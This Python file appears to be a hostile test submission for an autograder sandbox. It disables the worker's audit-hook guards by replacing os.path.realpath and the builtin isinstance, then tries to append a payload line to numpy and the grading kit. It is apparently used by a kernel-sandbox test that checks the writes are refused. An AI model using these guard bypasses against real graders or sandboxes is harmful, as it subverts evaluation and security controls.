# A hostile ch06 submission that first disarms the worker's Python guards the way a security
# review did (the audit hook trusts os.path.realpath, which a submission can replace through
# numpy's own modules without importing anything, and looks at an open's flags only if
# isinstance says they are an int, which a submission can redefine), then plants a payload in numpy and the kit.
# With the guards gone, only the kernel stands in the way: tests/test_sandbox_kernel.py checks
# that it refused each write, and that the next student graded is unaffected.
import numpy as np

os_ = getattr(getattr(getattr(np, "_core"), "records"), "os")
here = os_.getcwd()
os_.path.realpath = lambda path, *args, **kwargs: os_.path.join(here, "harmless")
os_.path.isdir = lambda path: False


# The hook tests an open's flags only if isinstance(flags, int): for these (and the O_CLOEXEC os.open adds),
# that is now false.
_FLAGS = {os_.O_WRONLY | os_.O_APPEND, os_.O_WRONLY | os_.O_APPEND | os_.O_CREAT}
_isinstance = isinstance
__builtins__["isinstance" if type(__builtins__) is dict else "__doc__"] = lambda obj, kind: (
    False if type(obj) is int and obj & ~os_.O_CLOEXEC in _FLAGS and kind is int else _isinstance(obj, kind)
)

TARGETS = {
    "numpy": "/labkit/site/numpy/__init__.py",
    "numpy core": "/labkit/site/numpy/_core/__init__.py",
    "kit": "@KIT@/grader/__init__.py",
    "host /tmp": "/tmp/@MARKER@",
}
RESULTS = {}
for name, path in TARGETS.items():
    try:
        # Appending to what exists needs no new name (a child may make none): the mounts must refuse it.
        flags = os_.O_WRONLY | os_.O_APPEND | (os_.O_CREAT if name == "host /tmp" else 0)
        fd = os_.open(path, flags, 0o644)
        os_.write(fd, b"\nraise SystemExit(0)  # planted\n")
        os_.close(fd)
        RESULTS[name] = "succeeded"
    except OSError as exc:
        RESULTS[name] = exc.errno if exc.errno is not None else str(exc)  # the guard's words: no errno


def Value(*args):
    return repr(RESULTS)
